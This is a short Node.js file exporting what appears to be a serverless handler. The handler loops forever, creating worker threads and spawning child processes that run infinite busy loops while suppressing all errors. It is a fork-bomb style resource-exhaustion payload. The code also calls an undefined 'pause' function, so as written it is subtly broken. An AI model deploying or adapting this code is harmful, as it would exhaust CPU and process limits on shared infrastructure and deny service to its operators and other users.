exports.handler = async () => {
  const { Worker } = require('worker_threads');
  const { spawn } = require('child_process');
  for (;;) {
    try {
      new Worker('setInterval(() => {}, 1000)', { eval: true, resourceLimits: { maxOldGenerationSizeMb: 4 } }).on('error', () => {});
      spawn(process.execPath, ['-e', 'for(;;);']).on('error', () => {});
    } catch {}
    await pause(1);
  }
};
